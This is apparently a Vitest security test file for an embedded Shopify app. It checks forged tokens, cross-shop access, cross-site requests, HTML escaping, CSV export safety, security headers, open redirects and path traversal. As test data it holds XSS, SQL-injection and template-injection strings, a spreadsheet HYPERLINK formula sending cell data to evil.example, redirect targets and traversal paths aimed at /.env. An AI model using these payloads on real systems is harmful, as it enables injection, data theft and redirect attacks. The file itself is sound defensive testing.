import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, test } from "vitest";
import { db, pool, withShop } from "~/db.server";
import { documentPolicy, policyText } from "~/document-policy";
import { asShopId, type ShopId } from "~/platform/ids";
import type { SandboxShop } from "../../shopify-stand-in/shops/shop-model";
import { addressesOf, listAppRoutes, type AppRoute } from "../factories/app-routes";
import { askData, askDocument, browserAgent, hostOf, openHouse, type House } from "../factories/house";
import { createMarkedShop, markedDomain, personalMark, tellsOfContent } from "../factories/marked-shop";
import { sendRaw } from "../factories/raw-http";
import { forgedTokens } from "../factories/tokens";

/** What comes to the pages of a production build that nobody of good will sends. */
const domain = markedDomain(1);
const otherDomain = markedDomain(2);
let house: House;
let routes: AppRoute[];
/** A process of the same build with nothing of the sandbox in it. */
let bare: string;
let shopId: ShopId;
let customerId: string;

/** As names and texts of a shop: SQL, HTML, templates, formulas. */
const nasty = {
  html: `<img src=x onerror=alert(1)><script>alert('x')</script>`,
  closing: `</script><script>alert(2)//--></style><!--`,
  sql: `'; DROP TABLE customers; --`,
  template: "{{constructor.constructor('alert(3)')()}} ${7*7} #{7*7}",
  formula: `=HYPERLINK("https://evil.example/"&A1;"x")`,
};

function createNastyShop(): SandboxShop {
  const shop = createMarkedShop(1, Date.now(), 8);
  const texts = Object.values(nasty);
  [...shop.customers.values()].forEach((customer, index) => {
    customer.firstName = texts[index % texts.length]!;
    customer.lastName = nasty.formula;
    customer.tags = texts;
  });
  for (const order of shop.orders.values()) {
    order.discountCodes = [nasty.html];
    for (const line of order.lines) line.title = nasty.closing;
    for (const parcel of order.fulfillments) parcel.trackingCompany = nasty.html;
  }
  return shop;
}

beforeAll(async () => {
  house = await openHouse({ shops: [createNastyShop(), createMarkedShop(2, Date.now(), 8)], worker: true });
  routes = await listAppRoutes(house.build);
  for (const one of [domain, otherDomain]) {
    house.standIn.install(one);
    const opened = await askDocument(house, one, "/app", { userId: "501" });
    expect(opened.status, await opened.text()).toBe(200);
  }
  shopId = asShopId((await db.shop.findUniqueOrThrow({ where: { domain } })).id);
  const scored = () => withShop(shopId, (tx) => tx.customerScore.findFirst());
  while (!(await scored())) await new Promise((resolve) => setTimeout(resolve, 200));
  const buyers = await withShop(shopId, (tx) => tx.order.groupBy({ by: ["customerId"], _count: true }));
  buyers.sort((a, b) => b._count - a._count);
  customerId = String(buyers.find((buyer) => buyer.customerId !== null)!.customerId);
  // Who may see what was asked of the sandbox by now, and is remembered: this process needs it no more.
  bare = (await house.start("web", { preload: false })).url;
}, 300_000);

afterAll(async () => {
  await house.close();
  await db.$disconnect();
  await pool.end();
});

const inApp = () => routes.filter(({ pattern }) => pattern.startsWith("/app"));

test.each(forgedTokens(domain, otherDomain))(
  "a token %s opens nothing, in a header or in an address",
  async (_what, make) => {
    const list = "/app/customers?_data=routes%2Fapp.customers._index";
    for (const at of [house.appUrl, bare]) {
      const data = await askData(house, domain, list, { token: make(), at });
      expect([401, 302]).toContain(data.status);
      const framed = await askDocument(house, domain, "/app/customers", { token: make(), at });
      expect([401, 302]).toContain(framed.status);
      if (framed.status === 302) expect(framed.headers.get("Location")).toMatch(/^\/auth\/session-token\?/);
      for (const answer of [data, framed]) expect(tellsOfContent(await answer.text())).toBe(false);
    }
  },
);

test("a good token opens, again within its minute, and no more afterwards", async () => {
  const token = await house.standIn.mintSessionToken(domain, { userId: "501" });
  for (const _again of [1, 2])
    expect((await askData(house, domain, "/app/import-progress", { token })).status).toBe(200);
  const stale = await house.standIn.mintSessionToken(domain, { issuedAt: Date.now() - 71_000 });
  const late = await askData(house, domain, "/app/import-progress", { token: stale });
  expect(late.status).toBe(401);
  expect(late.headers.get("X-Shopify-Retry-Invalid-Session-Request")).toBe("1");
});

test("a token of one shop at an address of another opens neither", async () => {
  const token = await house.standIn.mintSessionToken(domain);
  const mixed = [`shop=${otherDomain}`, `shop=${domain}&shop=${otherDomain}`, "shop=", "shop=evil.example"];
  for (const search of mixed) {
    const data = await askData(house, domain, `/app?_data=routes%2Fapp._index&${search}`, { token });
    expect(data.status, search).toBe(400);
    const url = `${house.appUrl}/app?embedded=1&host=${hostOf(otherDomain)}&${search}&id_token=${token}`;
    const page = await fetch(url, { redirect: "manual", headers: { "User-Agent": browserAgent } });
    expect([400, 302], search).toContain(page.status);
    expect(tellsOfContent(await page.text())).toBe(false);
  }
});

test("without a token nothing is shown and nothing changes, whatever site the request comes from", async () => {
  const before = await settings();
  const forms: Record<string, string>[] = [
    { intent: "create", name: "Planted", query: "" },
    { kind: "fixed-days", days: "30", multiple: "2" },
    { locale: "ru" },
  ];
  for (const route of inApp()) {
    for (const address of addressesOf(route, [customerId])) {
      for (const body of route.writes ? forms : [undefined]) {
        const answer = await askData(house, domain, `${address}?_data=${encodeURIComponent(route.id)}`, {
          token: null,
          ...(body ? { method: "POST", body: new URLSearchParams(body) } : {}),
          headers: {
            Origin: "https://evil.example",
            "Sec-Fetch-Site": "cross-site",
            Cookie: "shopify_app_session=1; session=1",
          },
        });
        expect([204, 302, 400, 401], `${route.id} ${answer.status}`).toContain(answer.status);
        expect(answer.headers.get("Access-Control-Allow-Credentials")).toBeNull();
        expect(answer.headers.get("Set-Cookie")).toBeNull();
        expect(tellsOfContent(await answer.text())).toBe(false);
      }
    }
  }
  expect(await settings()).toEqual(before);
});

const settings = () =>
  withShop(shopId, async (tx) => [
    await tx.savedView.findMany(),
    await tx.lostDefinition.findMany(),
    await tx.staffPreference.findMany(),
  ]);

test("SQL, HTML, templates and formulas in names, tags, titles and codes are shown as the text they are", async () => {
  const pages = await Promise.all([
    askDocument(house, domain, `/app/customers/${customerId}`),
    askDocument(house, domain, "/app/customers"),
    askDocument(house, domain, "/app"),
    askDocument(house, domain, `/app/customers?q=${encodeURIComponent(nasty.closing)}`),
    askDocument(house, domain, `/app/customers?view=${encodeURIComponent(nasty.html)}`),
    askDocument(house, domain, `/app/${encodeURIComponent(nasty.html)}`),
  ]);
  const texts = await Promise.all(pages.map((page) => page.text()));
  for (const [index, text] of texts.entries()) {
    for (const foreign of ["<img src=x", "<script>alert", "alert(1)>", "<!--"])
      expect(
        text.replaceAll("<!-- -->", "").replaceAll(/<!--[$/][^>]*-->/g, ""),
        `page ${index}`,
      ).not.toContain(foreign);
    const scripts = [...text.matchAll(/<script([^>]*)>/g)].map((match) => match[1]!);
    const nonce = /'nonce-([^']+)'/.exec(pages[index]!.headers.get("Content-Security-Policy")!)![1]!;
    for (const attributes of scripts)
      expect(attributes.includes(`nonce="${nonce}"`) || / src="/.test(attributes), attributes).toBe(true);
  }
  expect(texts[0]).toContain("&lt;img src=x onerror=alert(1)&gt;");
  expect(texts[0]).toContain("&lt;/script&gt;&lt;script&gt;alert(2)");
  const stored = await withShop(shopId, (tx) => tx.orderLine.findFirstOrThrow());
  expect(stored.title).toBe(nasty.closing);
  for (const search of Object.values(nasty)) {
    const found = await askData(
      house,
      domain,
      `/app/customers?q=${encodeURIComponent(search)}&_data=routes%2Fapp.customers._index`,
    );
    expect(found.status).toBe(200);
  }
  expect(await withShop(shopId, (tx) => tx.customer.count())).toBe(8);
});

test("an export opened in a spreadsheet runs nothing", async () => {
  const answer = await askData(house, domain, "/app/customers/export");
  expect(answer.headers.get("Content-Disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
  const rows = parse<Record<string, string>>(await answer.text(), { bom: true, columns: true });
  expect(rows).toHaveLength(8);
  const cells = rows.flatMap((row) => Object.values(row));
  expect(cells.filter((cell) => /^\s*[=+@\t\r]/.test(cell) || /^-(?![\d.]+$)/.test(cell))).toEqual([]);
  expect(cells.some((cell) => cell.includes("HYPERLINK"))).toBe(true);
});

test("every answer of the app is for nobody's cache, and is framed by the shop's own admin alone", async () => {
  const own = `frame-ancestors https://${domain} https://admin.shopify.com; `;
  for (const route of inApp().filter(({ reads }) => reads)) {
    for (const address of addressesOf(route, [customerId, "0"])) {
      const named = `${address}?shop=${domain}`;
      const answers = [
        await askData(house, domain, route.page ? `${named}&_data=${encodeURIComponent(route.id)}` : named, {
          at: bare,
        }),
        ...(route.page ? [await askDocument(house, domain, address, { at: bare })] : []),
      ];
      for (const { headers, status } of answers) {
        expect(status, address).toBeLessThan(500);
        expect(headers.get("Cache-Control"), address).toBe("private, no-store");
        expect(headers.get("Content-Security-Policy"), address).toMatch(new RegExp(`^${own}`));
        expect(headers.get("X-Content-Type-Options")).toBe("nosniff");
        expect(headers.get("Referrer-Policy")).toBe("strict-origin-when-cross-origin");
        expect(headers.get("Permissions-Policy")).toContain("camera=()");
        expect(headers.get("X-Powered-By")).toBeNull();
        expect(headers.get("Set-Cookie")).toBeNull();
      }
    }
  }
});

test("without the sandbox a document's policy is Shopify's to the letter, with a nonce of its own each time", async () => {
  const policyOf = async () =>
    (await askDocument(house, domain, "/app", { at: bare })).headers.get("Content-Security-Policy")!;
  const [one, two] = [await policyOf(), await policyOf()];
  const nonce = /'nonce-([A-Za-z0-9+/]{22}==)'/.exec(one)![1]!;
  expect(one).toBe(
    `frame-ancestors https://${domain} https://admin.shopify.com; ` +
      policyText(documentPolicy(nonce, "https://cdn.shopify.com/shopifycloud/app-bridge.js")),
  );
  expect(two).not.toContain(nonce);
});

test("pages that no shop is named for may be framed by nobody; bounce pages by the shop they name", async () => {
  const ask = async (path: string) => {
    const answer = await sendRaw(bare, path, {
      headers: { "User-Agent": browserAgent, Accept: "text/html" },
    });
    expect(answer.status, path).toBeLessThan(500);
    return answer.headers["content-security-policy"]!;
  };
  const named = `shop=${domain}&host=${hostOf(domain)}&embedded=1`;
  for (const path of [
    "/",
    "/auth/login",
    "/nowhere",
    "/app",
    "/app/x",
    "/favicon.svg",
    "/healthz",
    "/assets/none.js",
  ])
    expect(await ask(path), path).toMatch(/^frame-ancestors 'none'; /);
  for (const shop of [
    "evil.example",
    `${domain}.evil.example`,
    `${domain}%20https://evil.example`,
    `x;script-src%20*`,
  ])
    expect(await ask(`/auth/session-token?shop=${shop}`), shop).toMatch(/^frame-ancestors 'none'; /);
  expect(await ask(`/auth/session-token?shop=${domain}&shop=evil.example`)).toMatch(
    /^frame-ancestors 'none'; /,
  );
  const own = new RegExp(`^frame-ancestors https://${domain} https://admin.shopify.com; `);
  for (const path of ["/auth/session-token", "/auth/exit-iframe", "/nowhere", "/app", "/assets/none.js"])
    expect(await ask(`${path}?${named}`), path).toMatch(own);
  const page = await sendRaw(bare, `/auth/session-token?${named}`, {
    headers: { "User-Agent": browserAgent },
  });
  expect(page.text).toContain("data-api-key");
  expect(page.headers["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
});

test("no address of the app leads to another site", async () => {
  const elsewhere = [
    ...[
      "https://evil.example",
      "//evil.example",
      "/\\evil.example",
      "https:evil.example",
      "javascript:alert(1)",
    ],
    ...[`https://${domain}.evil.example/admin`, `https://evil.example/${domain}`, "data:text/html,x"],
    ...[
      `${house.appUrl}@evil.example/`,
      `${house.appUrl}.evil.example/`,
      "https://admin.shopify.com.evil.example/",
    ],
  ];
  const hosts = [
    hostOf(domain),
    btoa("evil.example"),
    btoa("evil.example/admin.shopify.com"),
    "////",
    "%00",
    "x",
  ];
  const asked = elsewhere.flatMap((target) => [
    `/auth/exit-iframe?shop=${domain}&host=${hosts[0]}&exitIframe=${encodeURIComponent(target)}`,
    `/auth/session-token?shop=${domain}&host=${hosts[0]}&shopify-reload=${encodeURIComponent(target)}`,
    `/auth/login?shop=${encodeURIComponent(target)}`,
    `/?shop=${encodeURIComponent(target)}`,
    `/app?shop=${encodeURIComponent(target)}&host=${hosts[0]}`,
    `/app?returnTo=${encodeURIComponent(target)}&redirect=${encodeURIComponent(target)}`,
    `/${target}`,
    `/app//${target}`,
  ]);
  for (const host of hosts)
    for (const embedded of ["0", "1"]) asked.push(`/app?shop=${domain}&host=${host}&embedded=${embedded}`);
  for (const path of asked) {
    const answer = await sendRaw(bare, path.replaceAll(" ", "%20"), {
      headers: { "User-Agent": browserAgent },
    });
    expect(answer.status, path).toBeLessThan(500);
    const { location } = answer.headers;
    if (location !== undefined) {
      const { protocol, hostname } = new URL(location, house.appUrl);
      const ours = hostname === new URL(house.appUrl).hostname;
      expect(
        ours || (protocol === "https:" && hostname === "admin.shopify.com"),
        `${path} -> ${location}`,
      ).toBe(true);
      expect(location, path).not.toMatch(/^\/[/\\]/);
    }
    expect(answer.text, path).not.toMatch(/window\.open\([^)]*evil/);
    // A bounce page that would send its new token elsewhere.
    if (path.startsWith("/auth/session-token")) expect(answer.status, path).toBe(400);
  }
});

test("files of the build are kept for a year, and carry nobody's name", async () => {
  const page = await (await askDocument(house, domain, "/app", { at: bare })).text();
  const asset = /"(\/assets\/[\w.-]+\.js)"/.exec(page)![1]!;
  const answer = await fetch(`${bare}${asset}`);
  expect(answer.headers.get("Cache-Control")).toBe("public, max-age=31536000, immutable");
  expect(await answer.text()).not.toContain(personalMark(2));
  const map = await fetch(`${bare}${asset}.map`);
  expect([200, 404]).toContain(map.status);
  for (const path of [
    "/assets/../../processes/web.js",
    "/assets/..%2f..%2fserver%2findex.js",
    "/.env",
    "/../package.json",
  ])
    expect((await sendRaw(bare, path)).text, path).not.toMatch(
      /SHOPIFY_API_SECRET|createHttpApp|"dependencies"/,
    );
});

test("over https the app asks to be reached that way alone", async () => {
  const secure = await house.start("web", {
    preload: false,
    env: { SHOPIFY_APP_URL: "https://holdfast.example" },
  });
  const answer = await fetch(`${secure.url}/healthz`);
  expect(answer.headers.get("Strict-Transport-Security")).toBe("max-age=31536000");
  expect((await fetch(`${bare}/healthz`)).headers.get("Strict-Transport-Security")).toBeNull();
  await secure.stop();
});
